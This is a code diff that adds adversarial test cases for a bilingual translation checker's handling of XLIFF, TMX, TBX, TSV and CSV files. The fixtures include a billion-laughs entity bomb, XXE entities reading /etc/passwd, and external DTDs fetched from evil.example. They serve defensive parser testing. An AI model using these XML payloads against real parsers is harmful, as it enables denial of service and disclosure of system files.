@@ -28,6 +28,7 @@ from adversarial.outcome import (  # noqa: E402
     documents_checked,
     file_lacks,
     finds,
+    finds_on_file_line,
     no_reference_metrics,
     same_findings,
     skipped_inputs,
@@ -414,9 +415,89 @@ def _text_oddities() -> list[Case]:
     ]
 
 
+def xliff(units: str, doctype: str = "") -> bytes:
+    return text('<?xml version="1.0" encoding="UTF-8"?>\n' + doctype +
+                '<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">\n'
+                '<file original="a.txt" source-language="zh-CN" target-language="en" datatype="plaintext"><body>\n'
+                + units + '</body></file></xliff>\n')
+
+
+def unit(number: int, source: str, target: str) -> str:
+    return f'<trans-unit id="{number}"><source>{source}</source>\n<target>{target}</target></trans-unit>\n'
+
+
+def xml_laughs(entity_use: str) -> str:
+    """Nine levels of ten references each: a DOCTYPE of under 1 KB that expands to 10^9 strings."""
+    levels = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10)]
+    return "<!DOCTYPE xliff [" + "".join(levels) + "]>\n", entity_use
+
+
+def many_units(count: int) -> bytes:
+    return xliff("".join(unit(n, "尹锡悦说。", "Yoon Suk-yue said." if n % 100 == 0 else "He said.")
+                         for n in range(count)))
+
+
+def _bilingual() -> list[Case]:
+    laughs_doctype, laughs_use = xml_laughs("&l9;")
+    external = '<!DOCTYPE xliff [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
+    parameter = '<!DOCTYPE xliff [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>\n'
+    tmx_external = text('<?xml version="1.0"?>\n<!DOCTYPE tmx SYSTEM "http://evil.example/tmx14.dtd">\n'
+                        '<tmx version="1.4"><header srclang="zh" datatype="plaintext" segtype="sentence" '
+                        'adminlang="en" creationtool="t" creationtoolversion="1" o-tmf="t"/><body>'
+                        '<tu><tuv xml:lang="zh"><seg>尹锡悦</seg></tuv><tuv xml:lang="en"><seg>Yoon Suk-yue</seg>'
+                        '</tuv></tu></body></tmx>\n')
+    tbx_external = text('<?xml version="1.0"?>\n<!DOCTYPE tbx [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
+                        '<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">'
+                        '<text><body><conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>&x;</term>'
+                        '</termSec></langSec></conceptEntry></body></text></tbx>\n')
+    injected = INJECTED.replace("\n", "&#10;")
+    return [
+        Case("xliff-billion-laughs", check("b.xlf"), {"b.xlf": xliff(unit(1, "尹", laughs_use), laughs_doctype)},
+             error=r"b\.xlf(:\d+)?: ", timeout=20),
+        Case("xliff-external-entity", check("x.xlf", "--format", "json", "--output", "out/r.json"),
+             {"x.xlf": xliff(unit(1, "尹", "&x;"), external)}, error=r"x\.xlf(:\d+)?: ",
+             expectations=(file_lacks("out/r.json", "root:"),)),
+        Case("xliff-parameter-entity", check("p.xlf"), {"p.xlf": xliff(unit(1, "尹", "x"), parameter)},
+             error=r"p\.xlf(:\d+)?: ", timeout=20),
+        Case("tmx-external-dtd", check("t.tmx"), {"t.tmx": tmx_external}, error=r"t\.tmx(:\d+)?: ", timeout=20),
+        Case("tbx-glossary-external-entity", check("a.txt", "--glossary", "g.tbx"), {"g.tbx": tbx_external},
+             error=r"g\.tbx(:\d+)?: "),
+        Case("xliff-malformed-at-line", check("m.xlf"),
+             {"m.xlf": xliff(unit(1, "一", "One.") + unit(2, "二", "<g id='1'>Two.") + unit(3, "三", "Three."))},
+             error=r"m\.xlf:\d+: "),
+        Case("xliff-not-xliff", check("n.xlf"), {"n.xlf": b'<?xml version="1.0"?>\n<html><body/></html>\n'},
+             error=r"n\.xlf(:\d+)?: "),
+        Case("xliff-empty-file", check("e.xlf"), {"e.xlf": b""}, error=r"e\.xlf(:\d+)?: "),
+        Case("xliff-deep-nesting", check("d.xlf"),
+             {"d.xlf": xliff(unit(1, "尹", "<g id='a'>" * 5000 + "x" + "</g>" * 5000))}, exits=EITHER,
+             error=r"d\.xlf(:\d+)?: ", timeout=30),
+        Case("xliff-tags-inside-names", check("t.xlf"),
+             {"t.xlf": xliff(unit(1, "尹锡悦说。", "<g id='1'>Yoon</g> <x id='2'/>Suk-yue said.") +
+                             unit(2, "强制劳动", "job <ph id='3'>&lt;br/&gt;</ph>labor"))},
+             exits=CHECKED, expectations=(finds_on_file_line("job labor", 7),)),
+        Case("xliff-injection-in-target-github", check("i.xlf", "--format", "github"),
+             {"i.xlf": xliff(unit(1, "尹锡悦", "Yoon Suk-yue" + injected))}, exits=CHECKED),
+        Case("xliff-injection-in-ids", check("i.xlf", "--format", "github"),
+             {"i.xlf": xliff(unit(1, "尹锡悦", "Yoon Suk-yue").replace('id="1"', f'id="1{injected}"')
+                             .replace('original="a.txt"', f'original="a{injected}"'))}, exits=CHECKED),
+        Case("xliff-20k-units", check("big.xlf", "--format", "json", "--output", "out/big.json"),
+             {"big.xlf": many_units(20_000)}, exits=CHECKED, timeout=120, expectations=(finds("Yoon Suk-yue", 200),)),
+        Case("tsv-too-many-fields", check("t.tsv"), {"t.tsv": text("一\tOne\n二\tTwo\tref\textra\n")},
+             error=r"t\.tsv:2: "),
+        Case("tsv-invalid-utf8", check("t.tsv"), {"t.tsv": b"\xe4\xb8\x80\tOne\n\xe4\xb8\tTwo\n"},
+             error=r"t\.tsv:2: "),
+        Case("tsv-crlf-and-names", check("t.tsv"), {"t.tsv": text("尹锡悦说。\tYoon Suk-yue said.\r\n\r\n"
+                                                                  "强制劳动\tjob labor\r\n")},
+             exits=CHECKED, expectations=(finds_on_file_line("Yoon Suk-yue", 1), finds_on_file_line("job labor", 3))),
+        Case("csv-glossary-bad-row", check("a.txt", "--glossary", "g.csv"),
+             {"g.csv": text('en,zh-Hans,status\nforced labor,强制劳动,preferred\n"unclosed,x\n')},
+             error=r"g\.csv(:\d+)?: "),
+    ]
+
+
 BASE_FILES = {"g.yaml": text(GLOSSARY), "a.txt": text(ARTICLE)}
 CASES: tuple[Case, ...] = (*_security(), *_crashes_and_hangs(), *_bad_configs_and_files(), *_keep_going(),
-                           *_text_oddities())
+                           *_text_oddities(), *_bilingual())
 
 
 def write_case(case: Case, folder: Path) -> None:
